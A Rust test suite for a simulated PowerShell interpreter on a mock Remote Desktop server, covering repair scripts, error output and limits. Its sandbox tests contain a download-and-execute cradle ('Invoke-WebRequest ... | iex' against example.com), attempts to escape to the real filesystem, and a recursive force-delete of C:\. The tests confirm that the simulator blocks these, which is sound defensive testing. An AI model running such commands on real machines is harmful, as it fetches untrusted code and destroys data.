//! Stories of the PowerShell interpreter: the knowledge base's scripts on broken hosts, the
//! service rules, errors as the 5.1 console prints them, and the bounds.

use super::*;
use crate::faults::{DenyTarget, Fault, FaultId, Form, inject};
use crate::rdp::Client;

fn host() -> Host {
    Host::builder().seed(7).build()
}

fn run(h: &mut Host, text: &str) -> Output {
    let mut p = Process::new(h.admin_token());
    run_script(h, &mut p, text)
}

const STORE_DENY_FIX: &str = r#"$path = 'HKLM:\SOFTWARE\Microsoft\SystemCertificates\Remote Desktop'
$acl = Get-Acl -Path $path
$acl.Access | Where-Object { $_.AccessControlType -eq 'Deny' } | ForEach-Object { [void]$acl.RemoveAccessRule($_) }
Set-Acl -Path $path -AclObject $acl
Restart-Service -Name SessionEnv -Force
"#;

#[test]
fn removing_the_deny_on_the_certificate_store_brings_rdp_back() {
    let mut h = host();
    inject(
        &mut h,
        &Fault::from_form(Form::CertStoreDeny(DenyTarget::StoreKey)),
    );
    assert!(h.rdp_connect(Client::Modern).is_err());
    let out = run(&mut h, STORE_DENY_FIX);
    assert_eq!(out.combined(), "", "the script prints nothing");
    assert_eq!(out.code, 0);
    assert!(h.rdp_connect(Client::Modern).is_ok());
}

#[test]
fn the_deny_on_the_certificates_subkey_is_found_with_a_recursive_listing() {
    let mut h = host();
    inject(
        &mut h,
        &Fault::from_form(Form::CertStoreDeny(DenyTarget::CertificatesSubkey)),
    );
    assert!(h.rdp_connect(Client::Modern).is_err());
    // The store key itself has no Deny: the script above changes nothing there.
    let before = run(&mut h.fork(), STORE_DENY_FIX);
    assert_eq!(before.code, 0);
    let script = r#"$path = 'HKLM:\SOFTWARE\Microsoft\SystemCertificates\Remote Desktop'
foreach ($key in @(Get-Item $path) + @(Get-ChildItem $path -Recurse)) {
    $acl = Get-Acl -Path $key.PSPath
    $deny = $acl.Access | Where-Object { $_.AccessControlType -eq 'Deny' -and -not $_.IsInherited }
    if ($deny) {
        $deny | ForEach-Object { [void]$acl.RemoveAccessRule($_) }
        Set-Acl -Path $key.PSPath -AclObject $acl
        Write-Host "fixed $($key.PSChildName)"
    }
}
Restart-Service -Name SessionEnv -Force
"#;
    let out = run(&mut h, script);
    assert_eq!(out.stdout(), "fixed Certificates\n", "{}", out.combined());
    assert!(h.rdp_connect(Client::Modern).is_ok());
}

#[test]
fn the_broker_comes_back_after_reinstalling_its_role_and_database() {
    let mut h = host();
    inject(&mut h, &Fault::new(FaultId::BrokerRenamed));
    assert!(!crate::rdp::broker::database_ok(&h));
    let out = run(
        &mut h,
        "Uninstall-WindowsFeature -Name Windows-Internal-Database, RDS-Connection-Broker\nInstall-WindowsFeature -Name RDS-Connection-Broker -IncludeManagementTools\n",
    );
    let text = out.stdout();
    assert!(
        text.contains("WARNING: You must restart this server to finish the removal process.\n"),
        "{text}"
    );
    assert!(
        text.contains("Success Restart Needed Exit Code      Feature Result"),
        "{text}"
    );
    assert!(text.contains("True    Yes            SuccessRest... {Remote Desktop Connection Broker, Windows Internal Database}"), "{text}");
    assert!(text.contains("True    No             Success        {Remote Desktop Connection Broker, Windows Internal Database}"), "{text}");
    assert!(crate::rdp::broker::database_ok(&h));
}

#[test]
fn restart_service_without_force_refuses_while_a_dependent_runs() {
    let mut h = host();
    let out = run(&mut h, "Restart-Service TermService");
    assert_eq!(
        out.stderr(),
        "Restart-Service : Cannot stop service 'Remote Desktop Services (TermService)' because it has dependent services. It \n\
can only be stopped if the Force flag is set.\n\
At line:1 char:1\n\
+ Restart-Service TermService\n\
+ ~~~~~~~~~~~~~~~~~~~~~~~~~~~\n    \
+ CategoryInfo          : InvalidOperation: (System.ServiceProcess.ServiceController:ServiceController) [Restart-S \n   \
ervice], ServiceCommandException\n    \
+ FullyQualifiedErrorId : ServiceHasDependentServices,Microsoft.PowerShell.Commands.RestartServiceCommand\n \n"
    );
    assert_eq!(
        out.code, 0,
        "-File ends normally after a non-terminating error"
    );
    assert!(h.is_running("TermService") && h.is_running("UmRdpService"));
    let out = run(&mut h, "Restart-Service TermService -Force");
    assert_eq!(out.combined(), "");
    assert!(h.is_running("TermService"));
    assert!(
        !h.is_running("UmRdpService"),
        "5.1 restarts only the named service"
    );
}

#[test]
fn the_remote_desktop_certificate_goes_through_the_pipeline_to_remove_item() {
    let mut h = host();
    let out = run(
        &mut h,
        r"Get-ChildItem 'Cert:\LocalMachine\Remote Desktop' | Remove-Item",
    );
    assert_eq!(out.combined(), "");
    let left = crate::certs::list(
        h.registry(),
        "Remote Desktop",
        &crate::principals::Token::system(),
    )
    .unwrap();
    assert!(left.is_empty());
    // SessionEnv makes a new one when it starts again.
    let out = run(
        &mut h,
        "Stop-Service SessionEnv; Start-Service SessionEnv; (Get-ChildItem 'Cert:\\LocalMachine\\Remote Desktop').Thumbprint.Length",
    );
    assert_eq!(out.stdout(), "40\n", "{}", out.combined());
}

#[test]
fn restart_computer_reboots_the_host_and_ends_the_script() {
    let mut h = host();
    let t0 = h.now();
    let out = run(&mut h, "Restart-Computer -Force\nWrite-Host 'not reached'");
    assert_eq!(out.combined(), "");
    assert_eq!(h.now().0 - t0.0, crate::host::REBOOT_SECS * 10_000_000);
}

#[test]
fn the_certificate_table_has_the_parent_path_header_and_the_thumbprint() {
    let mut h = host();
    let tp = crate::certs::list(
        h.registry(),
        "Remote Desktop",
        &crate::principals::Token::system(),
    )
    .unwrap()[0]
        .thumbprint_hex();
    let out = run(
        &mut h,
        r"Get-ChildItem 'Cert:\LocalMachine\Remote Desktop\'",
    );
    let pad = |s: &str| format!("{s:<119}");
    let expected = format!(
        "\n\n   PSParentPath: Microsoft.PowerShell.Security\\Certificate::LocalMachine\\Remote Desktop\n\n{}\n{}\n{}\n\n\n",
        pad("Thumbprint                                Subject"),
        pad("----------                                -------"),
        pad(&format!("{tp}  CN=RDS01")),
    );
    assert_eq!(out.stdout(), expected);
}

#[test]
fn a_parse_error_prints_its_position_and_stops_the_script() {
    let mut h = host();
    let out = run(
        &mut h,
        "Write-Host 'a'\nfunction Invoke-Fix {\n  Write-Host 'b'\n",
    );
    assert_eq!(out.stdout(), "", "nothing runs");
    assert_eq!(
        out.stderr(),
        "At line:2 char:21\n+ function Invoke-Fix {\n+                     ~\nMissing closing '}' in statement block or type definition.\n    + CategoryInfo          : ParserError: (:) [], ParseException\n    + FullyQualifiedErrorId : MissingEndCurlyBrace\n \n"
    );
    assert_eq!(out.code, 1);
}

#[test]
fn typographic_dashes_and_quotes_are_what_powershell_reads() {
    let mut h = host();
    let out = run(
        &mut h,
        "Write-Output \u{201C}a\u{201D} \u{2013}NoEnumerate; \u{2018}b\u{2019} \u{2014}eq 'B'",
    );
    assert_eq!(out.stdout(), "a\nTrue\n", "{}", out.combined());
}

#[test]
fn the_language_the_scripts_use() {
    let mut h = host();
    let script = r#"
function Get-Double { param([int]$Value = 2) return $Value * 2 }
$list = @(1, 2, 3) | ForEach-Object { Get-Double -Value $_ }
"list: $($list -join ',') count=$($list.Count)"
$h = @{ Name = 'TermService'; Port = 3389 }
if ($h.Port -eq '3389' -and $h.Name -like 'term*') { 'match' } elseif ($true) { 'no' } else { 'never' }
try { throw 'Boom' } catch { "caught: $($_.Exception.Message)" } finally { 'finally' }
$s = 'Remote Desktop'; $s.Substring(0, 6).ToUpper(); $s.Replace('Desktop', 'Help')
'a,b,,c' -split ',' | Where-Object { $_ } | Sort-Object -Descending
'TermService' -match '^Term(?<rest>\w+)$'; $Matches.rest
[Math]::Max(3, 7); "{0:N0} {1}" -f 1234567, 'x'
$i = 0; while ($i -lt 3) { $i++ }; $i
@"
here $i
"@
(Get-Service TermService).Status
"#;
    let out = run(&mut h, script);
    assert_eq!(
        out.stdout(),
        "list: 2,4,6 count=3\nmatch\ncaught: Boom\nfinally\nREMOTE\nRemote Help\nc\nb\na\nTrue\nService\n7\n1,234,567 x\n3\nhere 3\nRunning\n",
        "{}",
        out.combined()
    );
}

#[test]
fn an_unknown_command_is_not_recognized_and_the_script_goes_on() {
    let mut h = host();
    let out = run(&mut h, "Get-Foo\n'after'");
    // Word-wrapped at 119 with the space left at the end of the line, as the console does.
    assert!(out.stderr().starts_with("Get-Foo : The term 'Get-Foo' is not recognized as the name of a cmdlet, function, script file, or operable program. \nCheck the spelling"), "{}", out.stderr());
    assert!(
        out.stderr()
            .contains("    + FullyQualifiedErrorId : CommandNotFoundException\n")
    );
    assert_eq!(out.stdout(), "after\n");
}

#[test]
fn native_programs_set_lastexitcode() {
    let mut h = host();
    let out = run(
        &mut h,
        "sc.exe query NoSuchService | Out-Null; $LASTEXITCODE; net stop SessionEnv | Out-Null; $LASTEXITCODE; $?",
    );
    assert_eq!(out.stdout(), "1060\n0\nTrue\n", "{}", out.combined());
}

#[test]
fn error_action_stop_makes_an_error_terminating_and_catchable() {
    let mut h = host();
    let out = run(
        &mut h,
        "try { Get-Item C:\\nope -ErrorAction Stop; 'no' } catch { 'caught' }\nGet-Item C:\\nope -ErrorAction SilentlyContinue; $Error.Count; $?",
    );
    assert_eq!(out.stdout(), "caught\n2\nFalse\n", "{}", out.combined());
    let out = run(
        &mut h,
        "$ErrorActionPreference = 'Stop'\nGet-Item C:\\nope\n'not reached'",
    );
    assert_eq!(out.stdout(), "");
    assert_eq!(out.code, 1);
}

#[test]
fn a_loop_that_never_ends_stops_with_a_clear_error() {
    let mut h = host();
    let out = run(&mut h, "while ($true) {}");
    assert!(
        out.stderr()
            .starts_with("The script stopped after 200000 statements"),
        "{}",
        out.stderr()
    );
    assert_eq!(out.code, 1);
    let out = run(&mut h, "$s = 'x'; while ($true) { $s += $s }");
    assert!(out.stderr().contains("MiB"), "{}", out.stderr());
    let out = run(&mut h, "function f { f }; f");
    assert!(
        out.stderr()
            .starts_with("The script failed due to call depth overflow."),
        "{}",
        out.stderr()
    );
}

#[test]
fn the_locked_down_host_refuses_what_reaches_outside() {
    let mut h = host();
    let out = run(
        &mut h,
        "Invoke-WebRequest http://example.com/x.ps1 | iex\nStart-Process cmd\nAdd-Type -TypeDefinition 'x'\n[IO.File]::ReadAllText('C:\\x')\n'end'",
    );
    let err = out.stderr();
    assert!(
        err.contains("Invoke-WebRequest : Unable to connect to the remote server"),
        "{err}"
    );
    assert!(err.contains(
        "Start-Process : This command cannot be run due to the error: Access is denied."
    ));
    assert!(err.contains("Add-Type : Cannot add type. Definition of new types is not supported in this language mode."));
    assert!(err.contains("Cannot invoke method. Method invocation is supported only on core types in this language mode."));
    assert_eq!(out.stdout(), "end\n");
}

#[test]
fn powershell_exe_runs_commands_files_and_encoded_commands() {
    let mut h = host();
    let mut p = Process::new(h.admin_token());
    let out = crate::shell::run_line(
        &mut h,
        &mut p,
        "powershell -NoProfile -ExecutionPolicy Bypass -Command \"Get-Service TermService | Select-Object -ExpandProperty Status\"",
    );
    assert_eq!(out.stdout(), "Running\n", "{}", out.combined());
    let enc = encoding::encode_command("exit 7");
    let out = crate::shell::run_line(&mut h, &mut p, &format!("powershell -EncodedCommand {enc}"));
    assert_eq!(out.code, 7);
    h.fs_mut()
        .write_file(
            "C:\\fix.ps1",
            b"Write-Output 'from file'\nexit 3\n",
            &crate::principals::Token::system(),
        )
        .unwrap();
    let out = crate::shell::run_line(&mut h, &mut p, "powershell.exe -File C:\\fix.ps1");
    assert_eq!(
        (out.stdout().as_str(), out.code),
        ("from file\n", 3),
        "{}",
        out.combined()
    );
}

#[test]
fn a_session_keeps_variables_and_location_and_moves_the_prompt() {
    let mut h = host();
    let mut p = Process::new(h.admin_token());
    let mut s = Session::new(&p.cwd, true);
    assert_eq!(s.prompt(), "PS C:\\Windows\\system32> ");
    s.run(
        &mut h,
        &mut p,
        "$x = 5; Set-Location Cert:\\LocalMachine",
        &Options::default(),
    );
    assert_eq!(s.prompt(), "PS Cert:\\LocalMachine> ");
    let out = s.run(
        &mut h,
        &mut p,
        "$x; Remove-Module psreadline; Remove-Module psreadline",
        &Options::default(),
    );
    assert_eq!(out.stdout(), "5\n");
    assert!(
        out.stderr()
            .starts_with("Remove-Module : No modules were removed."),
        "{}",
        out.stderr()
    );
    assert!(!is_complete("if ($x) {"));
    assert!(is_complete("if ($x) { 1 }"));
}

#[test]
fn registry_errors_are_powershells() {
    let mut h = host();
    let out = run(
        &mut h,
        "Remove-ItemProperty -Path HKLM:\\SOFTWARE -Name Nope\nGet-ItemProperty HKLM:\\SOFTWARE\\Nope",
    );
    let err = out.stderr();
    assert!(err.starts_with("Remove-ItemProperty : Property Nope does not exist at path HKEY_LOCAL_MACHINE\\SOFTWARE.\n"), "{err}");
    assert!(err.contains("Get-ItemProperty : Cannot find path 'HKLM:\\SOFTWARE\\Nope' because it does not exist.\n"), "{err}");
    let mut users = Process::new(crate::principals::Token::for_principal(
        crate::principals::Sid::users(),
    ));
    let out = run_script(
        &mut h,
        &mut users,
        "Set-ItemProperty -Path HKLM:\\SOFTWARE -Name X -Value 1",
    );
    assert!(
        out.stderr()
            .starts_with("Set-ItemProperty : Requested registry access is not allowed.\n"),
        "{}",
        out.stderr()
    );
    assert!(out.stderr().contains("PermissionDenied: (HKEY_LOCAL_MACHINE\\SOFTWARE:String) [Set-ItemProperty], SecurityExcep \n   tion\n"), "{}", out.stderr());
    assert!(out.stderr().contains("+ FullyQualifiedErrorId : System.Security.SecurityException,Microsoft.PowerShell.Commands.SetItemPropertyCommand\n"));
}

#[test]
fn write_eventlog_writes_into_the_simulated_log_and_get_winevent_reads_it_back() {
    let mut h = host();
    let out = run(
        &mut h,
        "Write-EventLog -LogName Application -Source Remediation -EventId 4242 -EntryType Warning -Message 'ACL reset'\n(Get-WinEvent -FilterHashtable @{ LogName = 'Application'; Id = 4242 } -MaxEvents 1).LevelDisplayName",
    );
    assert_eq!(out.stdout(), "Warning\n", "{}", out.combined());
    let out = run(
        &mut h,
        "Get-WinEvent -FilterHashtable @{ LogName = 'Application'; Id = 4243 }",
    );
    assert!(
        out.stderr().starts_with(
            "Get-WinEvent : No events were found that match the specified selection criteria."
        ),
        "{}",
        out.stderr()
    );
}

#[test]
fn the_listener_certificate_is_set_through_wmi() {
    let mut h = host();
    let script = r#"$cert = Get-ChildItem 'Cert:\LocalMachine\Remote Desktop' | Select-Object -First 1
$ts = Get-WmiObject -Namespace root\cimv2\TerminalServices -Class Win32_TSGeneralSetting -Filter "TerminalName='RDP-Tcp'"
$ts.SetSSLCertificateSHA1Hash($cert.Thumbprint)
"#;
    let out = run(&mut h, script);
    assert!(
        out.stderr()
            .contains("Exception calling \"SetSSLCertificateSHA1Hash\""),
        "a Remote Desktop certificate is not in My: {}",
        out.combined()
    );
    assert!(h.registry().value_raw(
        "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp",
        "SSLCertificateSHA1Hash"
    ).is_none());
}

#[test]
fn get_acl_on_a_folder_shows_the_directory_table() {
    let mut h = host();
    let out = run(
        &mut h,
        r"Get-Acl C:\ProgramData\Microsoft\Crypto\RSA\MachineKeys",
    );
    let text = out.stdout();
    assert!(text.starts_with("\n\n    Directory: C:\\ProgramData\\Microsoft\\Crypto\\RSA\n\n\nPath        Owner               Access"), "{text}");
    assert!(
        text.contains(
            "\nMachineKeys NT AUTHORITY\\SYSTEM Everyone Allow  Write, Read, Synchronize..."
        ),
        "{text}"
    );
    let out = run(
        &mut h,
        r"(Get-Acl C:\ProgramData\Microsoft\Crypto\RSA\MachineKeys).Sddl",
    );
    assert_eq!(
        out.stdout(),
        "O:SYG:SYD:PAI(A;;0x12019f;;;WD)(A;;FA;;;BA)\n"
    );
}

#[test]
fn the_doubling_loop_stops_well_before_256_mib() {
    let mut h = host();
    let out = run(&mut h, "$s = 'x'; while ($true) { $s += $s }");
    assert!(
        out.stderr()
            .starts_with("The script stopped: the value assigned to $s holds more than 16 MiB"),
        "{}",
        out.stderr()
    );
}

#[test]
fn a_certificate_reads_its_serial_number_when_asked() {
    let mut h = host();
    let out = run(
        &mut h,
        r"(Get-ChildItem 'Cert:\LocalMachine\Remote Desktop').SerialNumber -match '^[0-9A-F]{32}$'",
    );
    assert_eq!(out.stdout(), "True\n", "{}", out.combined());
}

#[test]
fn edge_inputs_end_with_output_or_an_error_never_a_panic() {
    let mut h = host();
    for text in [
        "'{0:é}' -f 1",
        "-9223372036854775807..5",
        "'ab' * 3 -match '(ab){5000}'",
        "(Get-Date).AddYears(2000000000)",
        "[int]'x'",
        "$a = @(); $a[5] = 1",
        "'é'.Substring(1)",
        "'x'.PadLeft(-5)",
        "$null.Foo()",
        "& { param($x) $x } 1 2",
        "Get-Item -Path",
        "Get-ChildItem -NoSuchParameter",
        "Get-Service -Name",
        "1/0",
    ] {
        let out = run(&mut h, text);
        assert!(out.code <= 1, "{text}: {}", out.combined());
    }
}

#[test]
fn escape_attempts_leave_the_real_machine_untouched() {
    let dir = std::env::temp_dir().join(format!("kbsim-ps-escape-{}", std::process::id()));
    let real = dir.to_string_lossy().into_owned();
    let mut h = host();
    let attempts = [
        format!("Set-Content -Path '{real}' -Value x"),
        format!("New-Item -ItemType Directory -Path '{real}' -Force"),
        format!("'x' | Out-File '{real}'"),
        format!("'x' > '{real}'"),
        format!("[IO.File]::WriteAllText('{real}', 'x')"),
        format!("New-Object System.IO.StreamWriter('{real}')"),
        format!("Start-Process -FilePath sh -ArgumentList '-c', 'touch {real}'"),
        format!("Invoke-WebRequest -Uri http://127.0.0.1/ -OutFile '{real}'"),
        format!("Copy-Item C:\\Windows '{real}' -Recurse"),
        "Remove-Item -Recurse -Force C:\\".to_string(),
        "Set-Location ..\\..\\..\\..\\..; Get-ChildItem".to_string(),
    ];
    for a in &attempts {
        run(&mut h, a);
        assert!(!dir.exists(), "{a} reached the real machine");
    }
    let out = run(&mut h, "Set-Location C:\\..\\..\\..; (Get-Location).Path");
    assert_eq!(
        out.stdout(),
        "C:\\\n",
        "`..` never leaves the simulated volume"
    );
}

#[test]
fn environment_variables_and_expandable_registry_values_are_the_hosts() {
    let mut h = host();
    let out = run(
        &mut h,
        "\"$env:COMPUTERNAME $env:SystemRoot\"; (Get-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\TermService).ImagePath",
    );
    assert_eq!(
        out.stdout(),
        "RDS01 C:\\Windows\nC:\\Windows\\System32\\svchost.exe -k NetworkService\n",
        "{}",
        out.combined()
    );
}
